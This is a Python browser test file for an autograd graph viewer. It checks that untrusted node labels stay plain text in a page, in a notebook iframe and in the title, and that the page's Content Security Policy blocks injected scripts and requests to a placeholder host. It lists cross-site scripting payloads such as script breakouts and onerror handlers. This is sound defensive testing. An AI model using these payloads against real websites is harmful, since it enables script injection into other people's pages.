"""Labels from strangers stay text, in the page, in a frame of a notebook, and in its title."""

import pytest

from autograd import Value, page, steps
from autograd.show.scene.boxes import clean

from .reading import look, walk

pytestmark = pytest.mark.browser

HOSTILE = [
    "</script><script>window.hacked = 1</script>",
    "</section></body><img src=x onerror='window.hacked = 1'>",
    '"><img src=http://far.example/x.png onerror="window.hacked = 1">',
    "\"></iframe><script>window.hacked = 1</script><iframe srcdoc='",
    "' onload='window.hacked = 1",
    "</title><svg onload=window.hacked=1>",
    "&lt;b&gt; &quot; &#60;",
    "<!-- <script> -->",
    "]]>",
    "${window.hacked = 1} `{{script}}` {slope} $& $1",
    "\\u003c/script> \\",
    "__proto__",
    "<b>値</b>",
]


def graph(*labels):
    """A sum of leaves with these labels; its root has the first of them."""
    root, *others = [Value(2.0 + i, label) for i, label in enumerate(labels)]
    for x in others:
        root = root * x
    root = root + 1.0
    root.label = labels[0]
    return root


def parts(tab):
    """What no label may change: that nothing was run, and how many elements of each kind there are."""
    return tab.evaluate("""() => {
      const count = (kind) => document.querySelectorAll(kind).length;
      return [window.hacked ?? null, ...["section", "script", "img", "svg", "iframe"].map(count)];
    }""")


def shown_names(frame):
    """The labels in the table, without those of unnamed nodes and of the root."""
    return [name for name in frame.locator(".gw-values tbody th").all_inner_texts() if name in HOSTILE][:-1]


def test_hostile_labels_are_shown_as_they_were_typed(visit):
    tab = visit(page(graph(*map(str, range(len(HOSTILE))))))
    usual = parts(tab)
    visit(page(graph(*HOSTILE)))
    walk(tab)
    assert parts(tab) == usual
    assert sorted(shown_names(tab)) == sorted(HOSTILE)
    assert {" ".join(clean(label)) for label in HOSTILE} <= set(
        tab.locator("svg .gw-name").all_text_contents()
    )
    assert tab.title().startswith(HOSTILE[0])
    for label in HOSTILE:
        tab.get_by_role("button", name=label, exact=True).first.evaluate("button => button.click()")
        assert label in tab.locator(".gw-row").inner_text()


def test_hostile_labels_do_not_leave_the_frame_of_a_notebook(visit):
    root = graph(*HOSTILE[3:], *HOSTILE[:3])  # the title of the frame is the label that would leave it
    tab = visit(f"<!doctype html><title>notebook</title>{page(root)._repr_html_()}<p>after</p>")
    assert tab.evaluate("[...document.body.children].map((x) => x.tagName)") == ["DIV", "P"]
    frame = tab.frame_locator("iframe")
    frame.locator("[data-do=next]").click()
    assert frame.locator(".gw-count").inner_text() == f"step 1 of {len(steps(root))}"
    assert sorted(shown_names(frame)) == sorted(HOSTILE)
    assert tab.evaluate("window.hacked ?? null") is None


def test_hostile_labels_stay_text_where_numbers_are_asked_for(visit):
    root = graph(*HOSTILE)
    tab = visit(page(root, predict=True))
    tab.locator("[name=answer]").fill("17")
    tab.locator("[name=answer]").press("Enter")
    for _ in steps(root):
        tab.evaluate("document.querySelector('[data-do=reveal]').click()")
    assert look(tab)["step"] == len(steps(root))
    assert parts(tab)[0] is None


@pytest.mark.parametrize(
    "label", ["\u202etfel ot thgir", "a\u0000b\u0007c", "\ud800 lone", "\u200f\u2067", " \n\t "]
)
def test_a_label_that_is_no_plain_text_moves_nothing_around_it(visit, label):
    tab = visit(page(graph(label)))
    walk(tab)
    assert tab.locator(".gw-count").inner_text() == "step 3 of 3"
    assert tab.evaluate("getComputedStyle(document.querySelector('.gw-sentence')).direction") == "ltr"
    assert not set("\u202e\u0000\u0007\u200f\u2067") & set(tab.locator("body").inner_text())


def test_a_label_of_a_megabyte_opens_and_fits_the_screen(visit):
    tab = visit(page(graph("word " * 200_000)))
    walk(tab)
    assert tab.evaluate("document.documentElement.scrollWidth <= innerWidth")


@pytest.mark.parametrize(
    "attempt",
    [
        "Object.assign(document.createElement('script'), {text: 'window.hacked = 1'})",
        "Object.assign(document.createElement('script'), {src: 'http://far.example/x.js'})",
        "Object.assign(new Image(), {src: 'http://far.example/x.png'})",
        "Object.assign(document.createElement('iframe'), {src: 'http://far.example/'})",
        "Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'http://far.example/x.css'})",
        "(fetch('http://far.example/').catch(() => {}), '')",
    ],
)
def test_the_policy_lets_no_other_script_run_and_no_request_out(visit, watched, attempt):
    tab, watch = visit(page(graph("x"))), watched[1]
    with tab.expect_event("console") as said:
        tab.evaluate(f"() => document.body.append({attempt})")
    assert "violates the following Content Security Policy" in said.value.text
    assert tab.evaluate("window.hacked ?? null") is None
    watch.forget()
